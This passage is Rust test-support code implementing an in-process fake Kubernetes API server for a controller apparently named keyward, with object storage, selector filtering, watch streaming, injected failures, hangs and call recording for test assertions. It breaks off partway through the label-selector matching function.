//! An in-process fake of the Kubernetes API, behind a real `kube::Client`: it stores objects,
//! checks method, path and body, enforces resourceVersion preconditions and AlreadyExists,
//! filters lists by label and field selectors, streams watches, and records every call (with
//! the client that made it) so tests assert what was written, by whom.
#![allow(dead_code, clippy::unwrap_used, clippy::expect_used)] // test support: a panic is the report

use std::collections::BTreeMap;
use std::convert::Infallible;
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use bytes::Bytes;
use futures::StreamExt;
use http::{Request, Response, StatusCode};
use http_body::Frame;
use http_body_util::combinators::UnsyncBoxBody;
use http_body_util::{BodyExt, Full, StreamBody};
use kube::client::Body;
use kube::Client;
use serde_json::{json, Value};
use tokio::sync::{broadcast, Notify};

pub mod pcr;

type ResponseBody = UnsyncBoxBody<Bytes, Infallible>;

/// One request the fake served.
#[derive(Debug, Clone)]
pub struct Call {
    pub client: String,
    pub method: String,
    /// `group/version/resource` (`/v1/secrets` for the core group).
    pub resource: String,
    pub namespace: String,
    pub name: String,
    pub query: String,
    pub body: Option<Value>,
    pub status: u16,
    pub at: Instant,
}

impl Call {
    pub fn is_write(&self) -> bool {
        matches!(self.method.as_str(), "POST" | "PUT" | "PATCH" | "DELETE")
    }
}

#[derive(Debug, Clone)]
struct Failure {
    /// Only this client's requests, when set.
    client: Option<String>,
    method: String,
    resource: String,
    code: u16,
    times: usize,
}

/// Requests that are accepted and never answered (a half-open connection to one apiserver).
#[derive(Debug, Clone)]
struct Hang {
    method: String,
    resource: String,
    /// Only requests for this object name, when set.
    name: Option<String>,
}

#[derive(Debug, Clone)]
struct Change {
    rv: u64,
    resource: String,
    namespace: String,
    kind: &'static str,
    object: Value,
    /// The object before a modification: a selector watch sees an object that stops matching
    /// as DELETED, and one that starts matching as ADDED, as the apiserver's watch cache does.
    previous: Option<Value>,
}

#[derive(Default)]
struct State {
    objects: BTreeMap<(String, String, String), Value>,
    rv: u64,
    uids: u64,
    calls: Vec<Call>,
    failures: Vec<Failure>,
    history: Vec<Change>,
    /// Refuse to create a namespaced object in a namespace that does not exist, as the
    /// apiserver does (off by default: most tests do not seed their namespaces).
    require_namespaces: bool,
    hangs: Vec<Hang>,
    /// Resources listed and watched only by name, as RBAC with `resourceNames` allows: a list
    /// or watch of one of these is forbidden (403) unless its field selector is exactly
    /// `metadata.name=` a name given here.
    by_name_only: BTreeMap<String, Vec<String>>,
    /// Resources whose lists and watches are refused (503), as while their storage is down.
    down: Vec<String>,
    /// Requests in these namespaces are answered this much later.
    delays: BTreeMap<String, Duration>,
    /// Watches from a resourceVersion older than this get 410 Gone (the history was
    /// compacted, as after an apiserver restart).
    compacted: u64,
    /// Bumped to end every watch stream (an apiserver restart).
    epoch: u64,
    /// Bumped to end the watch streams of one resource (its watch timed out, say).
    resource_epochs: BTreeMap<String, u64>,
}

#[derive(Clone)]
pub struct FakeApi {
    state: Arc<Mutex<State>>,
    changes: broadcast::Sender<Change>,
    notify: Arc<Notify>,
    restarts: tokio::sync::watch::Sender<u64>,
}

impl Default for FakeApi {
    fn default() -> Self {
        Self {
            state: Arc::default(),
            changes: broadcast::channel(65536).0,
            notify: Arc::new(Notify::new()),
            restarts: tokio::sync::watch::channel(0).0,
        }
    }
}

/// `group/version/resource` of a kind, for seeding and reading.
pub fn resource_of(api_version: &str, kind: &str) -> String {
    let plural = match kind {
        "Namespace" => "namespaces".to_string(),
        "Pod" => "pods".to_string(),
        "Secret" => "secrets".to_string(),
        "ConfigMap" => "configmaps".to_string(),
        "ServiceAccount" => "serviceaccounts".to_string(),
        "RoleBinding" => "rolebindings".to_string(),
        "Lease" => "leases".to_string(),
        other => format!("{}s", other.to_ascii_lowercase()),
    };
    let gv = if api_version.contains('/') { api_version.to_string() } else { format!("/{api_version}") };
    format!("{gv}/{plural}")
}

impl FakeApi {
    /// A client whose calls are recorded as `id`'s, with keyward's request deadline (10 s,
    /// longer than any test waits on a request that answers).
    pub fn client(&self, id: &str) -> Client {
        self.client_with_deadline(id, Duration::from_secs(10))
    }

    /// A client whose requests are abandoned after `deadline`, as `keyward controller`'s are
    /// after --api-timeout.
    pub fn client_with_deadline(&self, id: &str, deadline: Duration) -> Client {
        let fake = self.clone();
        let id = id.to_string();
        let service = tower::service_fn(move |req: Request<Body>| {
            let fake = fake.clone();
            let id = id.clone();
            async move { Ok::<_, Infallible>(fake.handle(&id, req).await) }
        });
        kube::client::ClientBuilder::new(service, "default")
            .with_layer(&keyward_controller::client::Deadline { limit: deadline })
            .build()
    }

    /// From now on, requests of `method` on `resource` (and, if given, for object `name`) are
    /// accepted and never answered, until [`Self::unhang`].
    pub fn hang(&self, method: &str, resource: &str, name: Option<&str>) {
        self.state.lock().unwrap().hangs.push(Hang {
            method: method.into(),
            resource: resource.into(),
            name: name.map(str::to_string),
        });
    }

    /// Requests in `namespace` are answered `delay` later (a loaded apiserver).
    pub fn delay(&self, namespace: &str, delay: Duration) {
        self.state.lock().unwrap().delays.insert(namespace.into(), delay);
    }

    pub fn unhang(&self) {
        self.state.lock().unwrap().hangs.clear();
        self.notify.notify_waiters();
    }

    /// An apiserver restart: every watch stream ends, and the history is compacted, so a watch
    /// resumed from where it was gets 410 Gone and must list again.
    pub fn restart(&self) {
        {
            let mut state = self.state.lock().unwrap();
            state.compacted = state.rv;
            state.history.clear();
            state.epoch += 1;
        }
        self.restarts.send_modify(|e| *e += 1);
        self.notify.notify_waiters();
    }

    /// The watches of one resource end, as a watch the apiserver times out does, and the
    /// history is compacted meanwhile: resumed, they get 410 Gone and must list again. Every
    /// other watch goes on.
    pub fn expire_watches(&self, resource: &str) {
        {
            let mut state = self.state.lock().unwrap();
            state.compacted = state.rv;
            state.history.clear();
            *state.resource_epochs.entry(resource.to_string()).or_default() += 1;
        }
        self.restarts.send_modify(|e| *e += 1);
        self.notify.notify_waiters();
    }

    /// The lists and watches of `resource` are down: its open watches end, and until
    /// [`FakeApi::bring_up`] every list or watch of it is refused with 503 (a GET by name
    /// still answers).
    pub fn take_down(&self, resource: &str) {
        {
            let mut state = self.state.lock().unwrap();
            state.down.push(resource.to_string());
            *state.resource_epochs.entry(resource.to_string()).or_default() += 1;
        }
        self.restarts.send_modify(|e| *e += 1);
        self.notify.notify_waiters();
    }

    /// Lists and watches of `resource` answer again, the history compacted meanwhile: a watch
    /// resumed from before gets 410 Gone and must list again.
    pub fn bring_up(&self, resource: &str) {
        let mut state = self.state.lock().unwrap();
        state.down.retain(|r| r != resource);
        state.compacted = state.rv;
        state.history.clear();
    }

    /// Stores an object as if created (uid and resourceVersion assigned), as the test's setup.
    pub fn seed(&self, mut object: Value) -> Value {
        let resource = resource_of(object["apiVersion"].as_str().unwrap(), object["kind"].as_str().unwrap());
        let ns = object["metadata"]["namespace"].as_str().unwrap_or_default().to_string();
        let name = object["metadata"]["name"].as_str().unwrap().to_string();
        let mut state = self.state.lock().unwrap();
        state.rv += 1;
        state.uids += 1;
        if object["metadata"]["uid"].is_null() {
            object["metadata"]["uid"] = json!(format!("uid-{}", state.uids));
        }
        object["metadata"]["resourceVersion"] = json!(state.rv.to_string());
        let previous = state.objects.insert((resource.clone(), ns.clone(), name), object.clone());
        let kind = if previous.is_some() { "MODIFIED" } else { "ADDED" };
        let change = Change { rv: state.rv, resource, namespace: ns, kind, object: object.clone(), previous };
        state.history.push(change.clone());
        drop(state);
        let _ = self.changes.send(change);
        self.notify.notify_waiters();
        object
    }

    pub fn remove(&self, api_version: &str, kind: &str, namespace: &str, name: &str) {
        let resource = resource_of(api_version, kind);
        let mut state = self.state.lock().unwrap();
        if let Some(object) = state.objects.remove(&(resource.clone(), namespace.to_string(), name.to_string())) {
            state.rv += 1;
            let change =
                Change { rv: state.rv, resource, namespace: namespace.into(), kind: "DELETED", object, previous: None };
            state.history.push(change.clone());
            drop(state);
            let _ = self.changes.send(change);
            self.notify.notify_waiters();
        }
    }

    pub fn get(&self, api_version: &str, kind: &str, namespace: &str, name: &str) -> Option<Value> {
        let resource = resource_of(api_version, kind);
        self.state.lock().unwrap().objects.get(&(resource, namespace.to_string(), name.to_string())).cloned()
    }

    pub fn calls(&self) -> Vec<Call> {
        self.state.lock().unwrap().calls.clone()
    }

    /// The writes that changed something (not Events; not those refused, e.g. a create that
    /// found the object there).
    pub fn writes(&self) -> Vec<Call> {
        self.attempted_writes().into_iter().filter(|c| (200..300).contains(&c.status)).collect()
    }

    /// Every write request made, whatever its answer (not Events).
    pub fn attempted_writes(&self) -> Vec<Call> {
        self.calls().into_iter().filter(|c| c.is_write() && !c.resource.starts_with("events.k8s.io")).collect()
    }

    pub fn clear_calls(&self) {
        self.state.lock().unwrap().calls.clear();
    }

    /// From now on, creating an object in a namespace with no Namespace object fails with 404
    /// `namespaces "NAME" not found`, as it does on a real apiserver.
    pub fn require_namespaces(&self) {
        self.state.lock().unwrap().require_namespaces = true;
    }

    /// RBAC that grants list and watch of `resource` only on `names` (`resourceNames`): the API
    /// server authorizes a list or watch by name only when its field selector is exactly
    /// `metadata.name=NAME` (kubernetes/apiserver 24a394e51,
    /// pkg/endpoints/request/requestinfo.go l.245-250); anything else is 403 Forbidden.
    pub fn list_only_by_name(&self, resource: &str, names: &[&str]) {
        let names = names.iter().map(|n| n.to_string()).collect();
        self.state.lock().unwrap().by_name_only.insert(resource.into(), names);
    }

    /// The next `times` calls of `method` on `resource` fail with `code`.
    pub fn fail(&self, method: &str, resource: &str, code: u16, times: usize) {
        self.state.lock().unwrap().failures.push(Failure {
            client: None,
            method: method.into(),
            resource: resource.into(),
            code,
            times,
        });
    }

    /// The next `times` calls of `method` on `resource` by `client` fail with `code`.
    pub fn fail_for(&self, client: &str, method: &str, resource: &str, code: u16, times: usize) {
        self.state.lock().unwrap().failures.push(Failure {
            client: Some(client.into()),
            method: method.into(),
            resource: resource.into(),
            code,
            times,
        });
    }

    /// Waits until `check` holds, re-checking on every change the fake sees and, for what the
    /// fake cannot see (a reconciler's metrics or keys, which change after the last request
    /// that led to them), every 20 ms; panics after `limit` (a failure report, not a sleep).
    pub async fn until<T>(&self, limit: Duration, mut check: impl FnMut(&FakeApi) -> Option<T>) -> T {
        let deadline = tokio::time::Instant::now() + limit;
        loop {
            let notified = self.notify.notified();
            if let Some(v) = check(self) {
                return v;
            }
            let woken = async {
                tokio::select! {
                    () = notified => {}
                    () = tokio::time::sleep(Duration::from_millis(20)) => {}
                }
            };
            if tokio::time::timeout_at(deadline, woken).await.is_err() {
                if let Some(v) = check(self) {
                    return v;
                }
                panic!(
                    "condition not met within {limit:?}; calls: {:#?}",
                    self.calls()
                        .iter()
                        .map(|c| format!(
                            "{} {} {} {}/{} -> {}",
                            c.client, c.method, c.resource, c.namespace, c.name, c.status
                        ))
                        .collect::<Vec<_>>()
                );
            }
        }
    }

    /// Serves the fake over plain HTTP/1.1 on loopback (every request as client `keyward`'s),
    /// for the real binary to reach through a kubeconfig; returns the address. Must run in a
    /// tokio runtime that outlives the requests.
    pub async fn serve_http(&self) -> std::net::SocketAddr {
        let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        let fake = self.clone();
        tokio::spawn(async move {
            loop {
                let Ok((tcp, _)) = listener.accept().await else { continue };
                let fake = fake.clone();
                tokio::spawn(async move {
                    let service = hyper::service::service_fn(move |req: Request<hyper::body::Incoming>| {
                        let fake = fake.clone();
                        async move {
                            let (parts, body) = req.into_parts();
                            let bytes = body.collect().await.map(|b| b.to_bytes()).unwrap_or_default();
                            let req = Request::from_parts(parts, Body::from(bytes));
                            Ok::<_, Infallible>(fake.serve("keyward", req).await)
                        }
                    });
                    let _ = hyper::server::conn::http1::Builder::new()
                        .serve_connection(hyper_util::rt::TokioIo::new(tcp), service)
                        .await;
                });
            }
        });
        addr
    }

    /// Serves the fake over HTTP and writes `dir/kubeconfig` pointing at it (context namespace
    /// `namespace`); returns the file's path.
    pub async fn kubeconfig(&self, dir: &std::path::Path, namespace: &str) -> std::path::PathBuf {
        let addr = self.serve_http().await;
        let path = dir.join("kubeconfig");
        std::fs::write(
            &path,
            format!("apiVersion: v1\nkind: Config\nclusters: [{{name: fake, cluster: {{server: \"http://{addr}\"}}}}]\nusers: [{{name: u, user: {{}}}}]\ncontexts: [{{name: c, context: {{cluster: fake, user: u, namespace: {namespace}}}}}]\ncurrent-context: c\n"),
        )
        .unwrap();
        path
    }

    /// Answers one request as `client`'s (for serving the fake over HTTP, in a benchmark).
    pub async fn serve(&self, client: &str, req: Request<Body>) -> Response<ResponseBody> {
        self.handle(client, req).await
    }

    /// How many objects of `resource` (`/v1/secrets`) there are.
    pub fn count(&self, resource: &str) -> usize {
        self.state.lock().unwrap().objects.keys().filter(|(r, _, _)| r == resource).count()
    }

    async fn handle(&self, client: &str, req: Request<Body>) -> Response<ResponseBody> {
        let (parts, body) = req.into_parts();
        let bytes = body.collect_bytes().await.unwrap_or_default();
        let body: Option<Value> = if bytes.is_empty() { None } else { serde_json::from_slice(&bytes).ok() };
        let method = parts.method.as_str().to_string();
        let path = parts.uri.path().to_string();
        let query = parts.uri.query().unwrap_or_default().to_string();
        let (resource, namespace, name, subresource) = parse_path(&path);
        let params: BTreeMap<String, String> = query
            .split('&')
            .filter(|p| !p.is_empty())
            .filter_map(|p| p.split_once('='))
            .map(|(k, v)| (k.to_string(), decode(v)))
            .collect();
        let watch = params.get("watch").is_some_and(|v| v == "true" || v == "1");
        let delay = self.state.lock().unwrap().delays.get(&namespace).copied();
        if let (Some(delay), false) = (delay, watch) {
            tokio::time::sleep(delay).await;
        }
        let hung = {
            let state = self.state.lock().unwrap();
            state.hangs.iter().any(|h| {
                h.method == method && resource.ends_with(&h.resource) && h.name.as_ref().is_none_or(|n| *n == name)
            })
        };
        if hung {
            self.state.lock().unwrap().calls.push(Call {
                client: client.to_string(),
                method: method.clone(),
                resource: resource.clone(),
                namespace: namespace.clone(),
                name: name.clone(),
                query: query.clone(),
                body: body.clone(),
                status: 0,
                at: Instant::now(),
            });
            self.notify.notify_waiters();
            // Never answered: the client's deadline is all that ends it.
            std::future::pending::<()>().await;
        }
        // The call is recorded under the same lock as its effect, so a test that sees an
        // object also sees the call that wrote it.
        let (status, response) = {
            let mut state = self.state.lock().unwrap();
            let forbidden = method == "GET" && name.is_empty() && {
                let by_name = params.get("fieldSelector").and_then(|f| f.strip_prefix("metadata.name="));
                state
                    .by_name_only
                    .get(&resource)
                    .is_some_and(|names| by_name.is_none_or(|n| !names.iter().any(|a| a == n)))
            };
            let down = method == "GET" && name.is_empty() && state.down.contains(&resource);
            let (status, response) = if down {
                (503, Some(status(503, "ServiceUnavailable", "the server is currently unable to handle the request")))
            } else if forbidden {
                let verb = if watch { "watch" } else { "list" };
                let plural = resource.rsplit('/').next().unwrap_or_default();
                let scope = match namespace.as_str() {
                    "" => "at the cluster scope".to_string(),
                    ns => format!("in the namespace \"{ns}\""),
                };
                let message = format!("{plural} is forbidden: User \"system:serviceaccount:keyward-system:keyward-controller\" cannot {verb} resource \"{plural}\" in API group \"\" {scope}");
                (403, Some(status(403, "Forbidden", &message)))
            } else if watch {
                (200, None)
            } else {
                let object =
                    Target { resource: &resource, namespace: &namespace, name: &name, subresource: &subresource };
                self.respond(&mut state, client, &method, &object, &params, body.clone())
            };
            state.calls.push(Call {
                client: client.to_string(),
                method: method.clone(),
                resource: resource.clone(),
                namespace: namespace.clone(),
                name: name.clone(),
                query,
                body,
                status,
                at: Instant::now(),
            });
            (status, response)
        };
        self.notify.notify_waiters();
        if watch && status == 200 {
            let since: u64 = params.get("resourceVersion").and_then(|v| v.parse().ok()).unwrap_or(0);
            return self.watch(resource, namespace, params, since);
        }
        let bytes = serde_json::to_vec(&response.unwrap_or(Value::Null)).unwrap();
        Response::builder()
            .status(status)
            .header("content-type", "application/json")
            .body(Full::new(Bytes::from(bytes)).boxed_unsync())
            .unwrap()
    }

    fn respond(
        &self,
        state: &mut State,
        client: &str,
        method: &str,
        target: &Target<'_>,
        params: &BTreeMap<String, String>,
        body: Option<Value>,
    ) -> (u16, Option<Value>) {
        let Target { resource, namespace, name, subresource } = *target;
        if let Some(f) = state.failures.iter_mut().find(|f| {
            f.times > 0
                && f.method == method
                && resource.ends_with(&f.resource)
                && f.client.as_ref().is_none_or(|c| c == client)
        }) {
            f.times -= 1;
            let code = f.code;
            // A 409 says why, as the apiserver's do (a create of a name that exists, or an
            // update of a version that changed); every other code is an internal error.
            let reason = match (code, method) {
                (409, "POST") => "AlreadyExists",
                (409, _) => "Conflict",
                // As the apiserver words a 404 (kube's `is_not_found` reads the reason first).
                (404, _) => "NotFound",
                _ => "InternalError",
            };
            return (code, Some(status(code, reason, "injected failure")));
        }
        // Discovery (`/api/v1`, `/apis/GROUP/VERSION`): the kinds of the objects stored there.
        if let (Some(gv), "GET") = (resource.strip_suffix('/'), method) {
            let gv = gv.trim_start_matches('/');
            let mut resources: BTreeMap<String, Value> = BTreeMap::new();
            for ((r, ns, _), o) in &state.objects {
                let Some(plural) = r.strip_prefix(resource) else { continue };
                resources.entry(plural.to_string()).or_insert_with(|| {
                    json!({"name": plural, "singularName": "", "namespaced": !ns.is_empty(),
                           "kind": o["kind"], "verbs": ["get", "list", "watch", "create", "update", "patch", "delete"]})
                });
            }
            if resources.is_empty() {
                return (404, Some(status(404, "NotFound", &format!("{gv} is not served"))));
            }
            let list = json!({"kind": "APIResourceList", "apiVersion": "v1", "groupVersion": gv,
                              "resources": resources.into_values().collect::<Vec<_>>()});
            return (200, Some(list));
        }
        let key = (resource.to_string(), namespace.to_string(), name.to_string());
        let mut previous = None;
        let (code, object, change) = match method {
            "GET" if !name.is_empty() => match state.objects.get(&key) {
                Some(o) => (200, o.clone(), None),
                None => return (404, Some(status(404, "NotFound", &format!("{resource} {name:?} not found")))),
            },
            "GET" => {
                let selector = params.get("labelSelector").cloned().unwrap_or_default();
                let fields = params.get("fieldSelector").cloned().unwrap_or_default();
                let items: Vec<Value> = state
                    .objects
                    .iter()
                    .filter(|((r, ns, _), o)| {
                        r == resource && (namespace.is_empty() || ns == namespace) && matches(o, &selector, &fields)
                    })
                    .map(|(_, o)| o.clone())
                    .collect();
                // Pages, as the apiserver serves them with limit and continue.
                let start: usize = params.get("continue").and_then(|c| c.parse().ok()).unwrap_or(0);
                let limit: usize =
                    params.get("limit").and_then(|l| l.parse().ok()).filter(|l| *l > 0).unwrap_or(usize::MAX);
                let end = start.saturating_add(limit).min(items.len());
                let page = items.get(start..end).map(<[Value]>::to_vec).unwrap_or_default();
                let mut metadata = json!({"resourceVersion": state.rv.to_string()});
                if end < items.len() {
                    metadata["continue"] = json!(end.to_string());
                }
                let list = json!({"apiVersion": "v1", "kind": "List", "metadata": metadata, "items": page});
                return (200, Some(list));
            }
            "POST" => {
                let mut object = body.unwrap_or(Value::Null);
                let Some(name) = object["metadata"]["name"].as_str().map(str::to_string) else {
                    return (422, Some(status(422, "Invalid", "metadata.name: Required value")));
                };
                let key = (resource.to_string(), namespace.to_string(), name.clone());
                let namespace_key = ("/v1/namespaces".to_string(), String::new(), namespace.to_string());
                if state.require_namespaces && !namespace.is_empty() && !state.objects.contains_key(&namespace_key) {
                    return (404, Some(status(404, "NotFound", &format!("namespaces {namespace:?} not found"))));
                }
                if state.objects.contains_key(&key) {
                    return (409, Some(status(409, "AlreadyExists", &format!("{resource} {name:?} already exists"))));
                }
                state.rv += 1;
                state.uids += 1;
                object["metadata"]["uid"] = json!(format!("uid-{}", state.uids));
                object["metadata"]["resourceVersion"] = json!(state.rv.to_string());
                // The apiserver wipes a client's and sets its own.
                object["metadata"]["creationTimestamp"] = json!(keyward_certs::rfc3339(std::time::SystemTime::now()));
                if !namespace.is_empty() {
                    object["metadata"]["namespace"] = json!(namespace);
                }
                state.objects.insert(key, object.clone());
                (201, object, Some("ADDED"))
            }
            // The status subresource: only `.status` changes, as the apiserver's status strategy
            // keeps the rest; a PodCertificateRequest's status is validated as the apiserver does.
            "PUT" if subresource == "status" => {
                let body = body.unwrap_or(Value::Null);
                let Some(current) = state.objects.get(&key).cloned() else {
                    return (404, Some(status(404, "NotFound", &format!("{resource} {name:?} not found"))));
                };
                if body["metadata"]["resourceVersion"] != current["metadata"]["resourceVersion"] {
                    return (409, Some(status(409, "Conflict", "the object has been modified; please apply your changes to the latest version and try again")));
                }
                if resource.ends_with("/podcertificaterequests") {
                    if let Err(why) = pcr::validate_status_update(&current, &body["status"], SystemTime::now()) {
                        return (422, Some(status(422, "Invalid", &why)));
                    }
                }
                let mut object = current;
                object["status"] = body["status"].clone();
                state.rv += 1;
                object["metadata"]["resourceVersion"] = json!(state.rv.to_string());
                previous = state.objects.insert(key, object.clone());
                (200, object, Some("MODIFIED"))
            }
            "PUT" => {
                let mut object = body.unwrap_or(Value::Null);
                let Some(current) = state.objects.get(&key) else {
                    return (404, Some(status(404, "NotFound", &format!("{resource} {name:?} not found"))));
                };
                if object["metadata"]["resourceVersion"] != current["metadata"]["resourceVersion"] {
                    return (409, Some(status(409, "Conflict", "the object has been modified; please apply your changes to the latest version and try again")));
                }
                object["metadata"]["uid"] = current["metadata"]["uid"].clone();
                state.rv += 1;
                object["metadata"]["resourceVersion"] = json!(state.rv.to_string());
                previous = state.objects.insert(key, object.clone());
                (200, object, Some("MODIFIED"))
            }
            "PATCH" => {
                let Some(current) = state.objects.get(&key).cloned() else {
                    return (404, Some(status(404, "NotFound", "not found")));
                };
                let patch = body.unwrap_or(Value::Null);
                let wanted_rv = &patch["metadata"]["resourceVersion"];
                if !wanted_rv.is_null() && *wanted_rv != current["metadata"]["resourceVersion"] {
                    return (409, Some(status(409, "Conflict", "the object has been modified; please apply your changes to the latest version and try again")));
                }
                let mut object = current;
                if patch.is_array() {
                    // A JSON patch (RFC 6902): a failed `test` is refused, as the apiserver does.
                    let ops: json_patch::Patch = match serde_json::from_value(patch.clone()) {
                        Ok(ops) => ops,
                        Err(e) => return (400, Some(status(400, "BadRequest", &e.to_string()))),
                    };
                    if let Err(e) = json_patch::patch(&mut object, &ops) {
                        return (422, Some(status(422, "Invalid", &e.to_string())));
                    }
                } else {
                    merge(&mut object, &patch);
                }
                state.rv += 1;
                object["metadata"]["resourceVersion"] = json!(state.rv.to_string());
                previous = state.objects.insert(key, object.clone());
                (200, object, Some("MODIFIED"))
            }
            "DELETE" => {
                // As the apiserver: a delete whose preconditions name another object (a UID or
                // resourceVersion it does not have) is refused with 409, and deletes nothing.
                if let (Some(there), Some(pre)) = (state.objects.get(&key), body.as_ref().map(|b| &b["preconditions"]))
                {
                    for (field, have) in
                        [("uid", &there["metadata"]["uid"]), ("resourceVersion", &there["metadata"]["resourceVersion"])]
                    {
                        if let Some(want) = pre[field].as_str() {
                            if have.as_str() != Some(want) {
                                let message = format!("Precondition failed: {field} in precondition: {want}, {field} in object meta: {have}");
                                return (409, Some(status(409, "Conflict", &message)));
                            }
                        }
                    }
                }
                match state.objects.remove(&key) {
                    Some(o) => {
                        state.rv += 1;
                        (200, o, Some("DELETED"))
                    }
                    None => return (404, Some(status(404, "NotFound", "not found"))),
                }
            }
            _ => return (405, Some(status(405, "MethodNotAllowed", method))),
        };
        if let Some(kind) = change {
            let change = Change {
                rv: state.rv,
                resource: resource.to_string(),
                namespace: namespace.to_string(),
                kind,
                object: object.clone(),
                previous,
            };
            state.history.push(change.clone());
            let _ = self.changes.send(change);
        }
        (code, Some(object))
    }

    fn watch(
        &self,
        resource: String,
        namespace: String,
        params: BTreeMap<String, String>,
        since: u64,
    ) -> Response<ResponseBody> {
        let selector = params.get("labelSelector").cloned().unwrap_or_default();
        let fields = params.get("fieldSelector").cloned().unwrap_or_default();
        let rx = self.changes.subscribe();
        let (past, gone, epoch) = {
            let state = self.state.lock().unwrap();
            let past: Vec<Change> = state.history.iter().filter(|c| c.rv > since).cloned().collect();
            let epoch = (state.epoch, state.resource_epochs.get(&resource).copied().unwrap_or_default());
            (past, since < state.compacted, epoch)
        };
        if gone {
            // As the apiserver answers a watch from a compacted resourceVersion.
            let text = watch_line("ERROR", &status(410, "Expired", "too old resource version"));
            return Response::builder()
                .status(StatusCode::OK)
                .header("content-type", "application/json")
                .body(Full::new(Bytes::from(text)).boxed_unsync())
                .unwrap();
        }
        let mut restarts = self.restarts.subscribe();
        let (state, watched) = (self.state.clone(), resource.clone());
        let ended = async move {
            let _ = restarts
                .wait_for(|_| {
                    let state = state.lock().unwrap();
                    (state.epoch, state.resource_epochs.get(&watched).copied().unwrap_or_default()) != epoch
                })
                .await;
        };
        // What a watch with these selectors sends for a change, if anything.
        let seen = move |c: &Change| -> Option<&'static str> {
            if c.resource != resource || !(namespace.is_empty() || c.namespace == namespace) {
                return None;
            }
            let now = matches(&c.object, &selector, &fields);
            let before = c.previous.as_ref().is_some_and(|p| matches(p, &selector, &fields));
            match (c.kind, before, now) {
                ("MODIFIED", true, false) => Some("DELETED"),
                ("MODIFIED", false, true) => Some("ADDED"),
                ("MODIFIED", false, false) => None,
                (kind, _, true) => Some(kind),
                _ => None,
            }
        };
        let wanted = {
            let seen = seen.clone();
            move |c: &Change| seen(c).is_some()
        };
        let line = move |c: &Change| {
            let kind = seen(c).unwrap_or(c.kind);
            let text = watch_line(kind, &c.object);
            Ok::<_, Infallible>(Frame::data(Bytes::from(text)))
        };
        let wanted2 = wanted.clone();
        let line2 = line.clone();
        let replay = futures::stream::iter(
            past.into_iter().filter(move |c| wanted(c)).map(move |c| line2(&c)).collect::<Vec<_>>(),
        );
        let live = futures::stream::unfold(rx, |mut rx| async move {
            loop {
                match rx.recv().await {
                    Ok(c) => return Some((c, rx)),
                    Err(broadcast::error::RecvError::Lagged(_)) => continue,
                    Err(broadcast::error::RecvError::Closed) => return None,
                }
            }
        })
        .filter(move |c| futures::future::ready(wanted2(c)))
        .map(move |c| line(&c));
        // A restart ends the stream, as a closed connection does.
        let stream = replay.chain(live).take_until(Box::pin(ended));
        Response::builder()
            .status(StatusCode::OK)
            .header("content-type", "application/json")
            .body(StreamBody::new(stream).boxed_unsync())
            .unwrap()
    }
}

/// One line of a watch, as the API server writes it: `type` before `object` (the field order of
/// metav1.WatchEvent), which kube's decoder of a watched type may rely on (the controller keeps
/// a watched pod's JSON as text, so its `object` must not arrive first).
fn watch_line(kind: &str, object: &Value) -> Vec<u8> {
    let mut text = format!("{{\"type\":{},\"object\":", Value::from(kind)).into_bytes();
    serde_json::to_writer(&mut text, object).unwrap();
    text.extend_from_slice(b"}\n");
    text
}

fn status(code: u16, reason: &str, message: &str) -> Value {
    json!({"kind": "Status", "apiVersion": "v1", "metadata": {}, "status": "Failure", "message": message, "reason": reason, "code": code})
}

/// Percent-decoding of a query value (`+` is a space).
fn decode(s: &str) -> String {
    let bytes = s.as_bytes();
    let mut out = Vec::with_capacity(bytes.len());
    let mut i = 0;
    while i < bytes.len() {
        let hex = (bytes[i] == b'%' && i + 3 <= bytes.len())
            .then(|| std::str::from_utf8(&bytes[i + 1..i + 3]).ok().and_then(|h| u8::from_str_radix(h, 16).ok()))
            .flatten();
        match (hex, bytes[i]) {
            (Some(b), _) => {
                out.push(b);
                i += 3;
            }
            (None, b'+') => {
                out.push(b' ');
                i += 1;
            }
            (None, b) => {
                out.push(b);
                i += 1;
            }
        }
    }
    String::from_utf8_lossy(&out).into_owned()
}

/// `(group/version/resource, namespace, name)` of an API path.
/// What a request is about.
#[derive(Clone, Copy)]
struct Target<'a> {
    resource: &'a str,
    namespace: &'a str,
    name: &'a str,
    subresource: &'a str,
}

/// `(group/version/resource, namespace, name, subresource)` of a request path.
fn parse_path(path: &str) -> (String, String, String, String) {
    let segments: Vec<&str> = path.trim_matches('/').split('/').collect();
    let (gv, rest) = match segments.first() {
        Some(&"api") => (format!("/{}", segments.get(1).unwrap_or(&"")), &segments[2.min(segments.len())..]),
        _ => (
            format!("{}/{}", segments.get(1).unwrap_or(&""), segments.get(2).unwrap_or(&"")),
            &segments[3.min(segments.len())..],
        ),
    };
    let (namespace, resource, name, subresource) = if rest.first() == Some(&"namespaces") && rest.len() >= 3 {
        (rest[1], rest[2], rest.get(3).copied().unwrap_or(""), rest.get(4).copied().unwrap_or(""))
    } else {
        (
            "",
            rest.first().copied().unwrap_or(""),
            rest.get(1).copied().unwrap_or(""),
            rest.get(2).copied().unwrap_or(""),
        )
    };
    (format!("{gv}/{resource}"), namespace.to_string(), name.to_string(), subresource.to_string())
}

fn merge(target: &mut Value, patch: &Value) {
    match (target, patch) {
        (Value::Object(t), Value::Object(p)) => {
            for (k, v) in p {
                if v.is_null() {
                    t.remove(k);
                } else {
                    merge(t.entry(k.clone()).or_insert(Value::Null), v);
                }
            }
        }
        (t, p) => *t = p.clone(),
    }
}

/// Whether an object matches a label selector (`k=v`, `k!=v`, `k`, `!k`, `k in (a,b)`,
/// `k notin (a,b)`) and a field selector (`metadata.name=x`, `metadata.namespace=x`).
pub fn matches(object: &Value, selector: &str, fields: &str) -> bool {
    let labels = object["metadata"]["labels"].as_object().cloned().unwrap_or_default();
    let label = |k: &str| labels.get(k).and_then(Value::as_str).map(str::to_string);
    let mut terms = Vec::new();
    let mut depth = 0;
    let mut start = 0;
    for (i, c) in selector.char_indices() {
        match c {
            '(' => depth += 1,
            ')' => depth -= 1,
            ',' if depth == 0 => {
                terms.push(&selector[start..i]);
                start = i + 1;
            }
            _ => {}
        }
    }
    terms.push(&selector[start..]);
    let labels_ok = terms.iter().map(|t| t.trim()).filter(|t| !t.is_empty()).all(|t| {
        if let Some((k, rest)) = t.split_once(" notin ") {
            let values: Vec<&str> = rest.trim_matches(|c| c == '(' || c == ')').split(',').collect();
            label(k).is_none_or(|v| !values.contains(&v.as_str()))
        } else if let Some((k, rest)) = t.split_once(" in ") {
